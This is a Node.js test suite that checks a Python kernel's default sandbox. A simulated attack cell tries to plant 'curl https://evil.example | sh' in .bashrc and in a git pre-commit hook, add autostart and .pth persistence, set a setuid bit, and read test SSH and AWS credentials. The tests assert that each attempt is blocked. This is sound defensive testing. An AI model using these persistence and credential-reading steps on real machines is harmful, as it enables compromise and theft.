'use strict'
// What a default kernel may write and read, attacked: a cell plants a line in the home
// directory's dotfiles, an autostart entry, a git hook in its workspace, a `.pth` file in
// the shared environment (which every later kernel would run), changes a file's mode
// outside its workspace, and reads the user's ssh key and cloud credentials. A default
// kernel does none of it; what the machine cannot hold (no user namespaces) is said in
// `isolation.missing`. Then the installs: `%pip install` of a local wheel in a pool's
// session A works and stays A's (after a reset too), while session B and a new session
// cannot import it and the shared environment never sees it.
//
// Every attack runs as root and as an ordinary user this file makes (`useradd`), each on a
// machine that gives user namespaces and on one that refuses them (a seccomp filter on the
// host, as Docker's default profile does); `defaults-zygote.test.js` runs it all again with
// every kernel forked.
const test = require('node:test')
const assert = require('node:assert/strict')
const crypto = require('node:crypto')
const fs = require('node:fs')
const path = require('node:path')
const { isRoot, sharedDir, runEdgeHost, attackModes, startedRun } = require('../helpers/hosts')
const { writeWheel } = require('../helpers/wheel')
const { own, userVenv } = require('../helpers/venvs')

const zygote = process.env.PYKERNEL_TEST_ZYGOTE === '1'
const MARK = crypto.randomBytes(4).toString('hex')
const SSH_KEY = `-----BEGIN OPENSSH PRIVATE KEY----- ssh-secret-${MARK}`
const AWS_KEY = `aws_secret_access_key = aws-secret-${MARK}`
const BASHRC = '# the user\'s own\n'
const POOL_HOST = path.join(__dirname, 'fixtures', 'pool-host.js')

/** Each attack as a cell: what it tried, and the errno it got (`done` when it worked). */
const attack = (target) => `
import errno, json, os, site
home = os.environ['HOME']
def attempt(act):
    try:
        act()
        return 'done'
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
def read(path):
    try:
        return open(path).read()
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
def write(path, text, mode='w'):
    with open(path, mode) as f:
        f.write(text)
out = {
    'bashrc': attempt(lambda: write(os.path.join(home, '.bashrc'), 'curl https://evil.example | sh\\n', 'a')),
    'autostart': attempt(lambda: write(os.path.join(home, '.config/autostart/evil.desktop'), '[Desktop Entry]\\n')),
    'hook': attempt(lambda: write('.git/hooks/pre-commit', '#!/bin/sh\\ncurl https://evil.example | sh\\n')),
    'pth': attempt(lambda: write(os.path.join(site.getsitepackages()[0], 'pykernel_planted.pth'),
                                 'import builtins; builtins.PYKERNEL_PLANTED = "ran"\\n')),
    'chmod': attempt(lambda: os.chmod(${JSON.stringify(target)}, 0o4777)),
    'ssh': read(os.path.join(home, '.ssh/id_ed25519')),
    'aws': read(os.path.join(home, '.aws/credentials')),
    'ssh_listed': sorted(os.listdir(os.path.join(home, '.ssh'))),
    'cwd': attempt(lambda: write('results.txt', 'the workspace is writable\\n')),
    'tmp': attempt(lambda: write(os.path.join(os.environ['TMPDIR'], 'scratch'), 'so is TMPDIR\\n')),
}
print(json.dumps(out))
`

/** What `hidden: []` shows of the credential stores. */
const READ = `
import json, os
home = os.environ['HOME']
print(json.dumps({'ssh': open(os.path.join(home, '.ssh/id_ed25519')).read(),
                  'aws': open(os.path.join(home, '.aws/credentials')).read()}))
`

/** A later kernel of another session: did anything planted in the environment run? */
const LATER = `
import builtins, json, os, site
print(json.dumps({'planted_ran': getattr(builtins, 'PYKERNEL_PLANTED', None),
                  'pth_there': os.path.exists(os.path.join(site.getsitepackages()[0], 'pykernel_planted.pth'))}))
`

const MODES = attackModes()

const sitePackages = (venv) => {
  const lib = path.join(venv, 'lib')
  return path.join(lib, fs.readdirSync(lib).find((n) => n.startsWith('python')), 'site-packages')
}

for (const mode of MODES) {
  const skip = mode.needsUser && !mode.host.user ? 'needs root and useradd: the test user is made with useradd' : false
  test.describe(isRoot ? mode.name : mode.name.replace('root host', `host as uid ${process.getuid()}`), { skip }, () => {
    const namespaces = !mode.host.noUserns
    const owner = mode.host.user
    let home, workspace, outside, venv, result, pool

    test.before(async () => {
      venv = userVenv(owner)
      home = sharedDir(owner, 'pykernel-defaults-home-', '/var/tmp')
      for (const dir of ['.ssh', '.aws', '.config/autostart']) fs.mkdirSync(path.join(home, dir), { recursive: true })
      fs.writeFileSync(path.join(home, '.ssh/id_ed25519'), SSH_KEY, { mode: 0o600 })
      fs.writeFileSync(path.join(home, '.aws/credentials'), `[default]\n${AWS_KEY}\n`, { mode: 0o600 })
      fs.writeFileSync(path.join(home, '.bashrc'), BASHRC)
      own(home, owner)
      workspace = sharedDir(owner, 'pykernel-defaults-ws-', '/var/tmp')
      fs.mkdirSync(path.join(workspace, '.git/hooks'), { recursive: true })
      writeWheel(workspace)
      own(workspace, owner)
      outside = sharedDir(owner, 'pykernel-defaults-outside-', '/var/tmp')
      fs.writeFileSync(path.join(outside, 'program'), '#!/bin/sh\n', { mode: 0o755 })
      own(outside, owner)
      const base = {
        interpreter: path.join(venv, 'bin', 'python'),
        cwd: workspace,
        env: { HOME: home },
        ...(zygote ? { preload: ['json'] } : {}),
      }
      const runs = [
        { name: 'attack', options: base, code: attack(path.join(outside, 'program')) },
        { name: 'later', options: base, code: LATER },
        { name: 'shown', options: { ...base, sandbox: { hidden: [] } }, code: READ },
        { name: 'extra', options: { ...base, sandbox: { writable: [outside] } }, code: `open(${JSON.stringify(path.join(outside, 'made'))}, 'w').write('x'); print('{"extra": "done"}')` },
        { name: 'git', options: { ...base, sandbox: { writable: ['.git'] } }, code: `open('.git/description', 'w').write('listed'); print('{"git": "done"}')` },
        { name: 'all', options: { ...base, sandbox: { writable: 'all' } }, code: `open(${JSON.stringify(path.join(home, '.bashrc'))}, 'a').write('# allowed\\n'); print('{"all": "done"}')` },
      ]
      result = await runEdgeHost(mode.host, runs)
      assert.ok(result.report && !result.report.fatal, `the host reported (exit ${result.code ?? result.signal}): ${result.report?.fatal ?? ''} ${result.stderr.slice(-2000)}`)
      const request = (sessionId, code, extra = {}) => ({ sessionId, cells: [{ code }], timeoutSeconds: 120, ...extra })
      const wheel = './pk_defaults-1.0-py3-none-any.whl'
      const imported = 'import json, pkdefaults; print(json.dumps({"version": pkdefaults.__version__, "file": pkdefaults.__file__}))'
      pool = await runEdgeHost(mode.host, [
        { name: 'install', request: request('A', `%pip install -q --no-index --disable-pip-version-check ${wheel}\n${imported}`) },
        { name: 'after-reset', request: request('A', imported, { reset: true }) },
        { name: 'other', request: request('B', imported) },
        { name: 'new', request: request('C', imported) },
      ], { fixture: POOL_HOST, plan: { pool: { kernel: base } }, timeoutMs: 240_000 })
      assert.ok(pool.report && !pool.report.fatal, `the pool host reported (exit ${pool.code ?? pool.signal}): ${pool.report?.fatal ?? ''} ${pool.stderr.slice(-2000)}`)
    })

    test.after(() => {
      for (const dir of [home, workspace, outside, result?.dir, pool?.dir]) if (dir) fs.rmSync(dir, { recursive: true, force: true })
    })

    const run = (name) => startedRun(result, name)
    const missing = (name) => run(name).isolation.missing.join('\n')

    test('every kernel started the way this run tests, with the default protections it reports', () => {
      for (const [name, entry] of Object.entries(result.report.runs)) {
        assert.equal(entry.startError, undefined, `${name}: ${entry.startError}`)
        assert.equal(entry.startMode, zygote ? 'zygote' : 'spawn', name)
        assert.equal(entry.isolation.mode, namespaces ? 'namespaces+landlock' : 'landlock', name)
      }
      const enforced = run('attack').isolation.enforced
      for (const name of ['writes-confined', 'credentials-hidden', ...(namespaces ? ['git-read-only', 'session-installs'] : [])]) {
        assert.ok(enforced.includes(name), `${name} in ${enforced}`)
      }
      assert.equal(result.report.uid, owner ? owner.uid : process.getuid())
    })

    test('the home directory\'s dotfiles and autostart cannot be written; the workspace and TMPDIR can', () => {
      const { verdict } = run('attack')
      assert.notEqual(verdict.bashrc, 'done', JSON.stringify(verdict))
      assert.notEqual(verdict.autostart, 'done', JSON.stringify(verdict))
      assert.equal(fs.readFileSync(path.join(home, '.bashrc'), 'utf8').startsWith(BASHRC + '# allowed'), true, 'only the kernel allowed to write everywhere changed it')
      assert.deepEqual(fs.readdirSync(path.join(home, '.config/autostart')), [])
      assert.equal(verdict.cwd, 'done')
      assert.equal(fs.readFileSync(path.join(workspace, 'results.txt'), 'utf8'), 'the workspace is writable\n')
      assert.equal(verdict.tmp, 'done')
    })

    test('a git hook cannot be planted in the workspace\'s .git (it would run at the next commit, outside the sandbox)', () => {
      const { verdict } = run('attack')
      if (!namespaces) {
        assert.match(missing('attack'), /\.git is writable/)
        return
      }
      assert.equal(verdict.hook, 'EROFS', JSON.stringify(verdict))
      assert.deepEqual(fs.readdirSync(path.join(workspace, '.git/hooks')), [])
    })

    test('a .pth file planted in the shared environment never reaches it, and no later kernel of another session runs it', () => {
      const { verdict } = run('attack')
      // With user namespaces the write lands in the session's own overlay of the
      // environment; without, it is refused.
      assert.equal(verdict.pth, namespaces ? 'done' : 'EACCES', JSON.stringify(verdict))
      assert.equal(fs.existsSync(path.join(sitePackages(venv), 'pykernel_planted.pth')), false, 'the shared environment is untouched')
      assert.deepEqual(run('later').verdict, { planted_ran: null, pth_there: false })
    })

    test('a file\'s mode outside the writable directories cannot be changed (a setuid bit)', () => {
      const { verdict } = run('attack')
      if (!namespaces) {
        assert.match(missing('attack'), /metadata outside the writable directories/)
        return
      }
      assert.equal(verdict.chmod, 'EROFS', JSON.stringify(verdict))
      assert.equal(fs.statSync(path.join(outside, 'program')).mode & 0o7777, 0o755)
    })

    test('the ssh key and cloud credentials cannot be read; hidden: [] shows them', () => {
      const { verdict } = run('attack')
      assert.doesNotMatch(JSON.stringify(verdict), new RegExp(`secret-${MARK}`))
      if (namespaces) {
        // An empty, read-only stand-in.
        assert.equal(verdict.ssh, 'ENOENT')
        assert.deepEqual(verdict.ssh_listed, [])
      } else {
        assert.equal(verdict.ssh, 'EACCES')
        assert.match(missing('attack'), /names still list/)
      }
      assert.equal(verdict.aws, namespaces ? 'ENOENT' : 'EACCES')
      const shown = run('shown').verdict
      assert.equal(shown.ssh, SSH_KEY)
      assert.equal(shown.aws, `[default]\n${AWS_KEY}\n`)
    })

    test('writable adds a directory (the workspace\'s .git, named), and \'all\' writes where the user may', () => {
      assert.equal(run('git').verdict.git, 'done', JSON.stringify(run('git')))
      assert.equal(fs.readFileSync(path.join(workspace, '.git/description'), 'utf8'), 'listed')
      assert.equal(run('extra').verdict.extra, 'done')
      assert.equal(fs.readFileSync(path.join(outside, 'made'), 'utf8'), 'x')
      assert.equal(run('all').verdict.all, 'done')
    })

    test('%pip install in a pool\'s session stays the session\'s: after a reset too, never in another session or the shared environment', () => {
      const runs = pool.report.runs
      if (!namespaces) {
        // Without user namespaces there is no overlay: the environment is read-only and
        // the install fails, as the kernel's isolation says.
        assert.equal(runs.install.exitCode, 1, runs.install.output)
        assert.match(runs.install.output, /EACCES|Permission denied|not writeable/i)
      } else {
        assert.equal(runs.install.exitCode, 0, runs.install.output)
        assert.equal(runs.install.verdict.version, '1.0', runs.install.output)
        assert.ok(runs.install.verdict.file.startsWith(sitePackages(venv)), `it is imported from the environment's place: ${runs.install.verdict.file}`)
        assert.equal(runs['after-reset'].exitCode, 0, runs['after-reset'].output)
        assert.equal(runs['after-reset'].verdict.version, '1.0')
      }
      for (const name of ['other', 'new']) {
        assert.equal(runs[name].exitCode, 1, `${name}: ${runs[name].output}`)
        assert.match(runs[name].output, /ModuleNotFoundError: No module named 'pkdefaults'/, name)
      }
      assert.equal(fs.existsSync(path.join(sitePackages(venv), 'pkdefaults')), false, 'the shared environment never held it')
      const left = fs.readdirSync('/tmp').filter((n) => n.startsWith(`pykernel-session-${pool.report.pid}-`))
      assert.deepEqual(left, [], 'the sessions\' directories are gone once the pool is disposed')
    })
  })
}
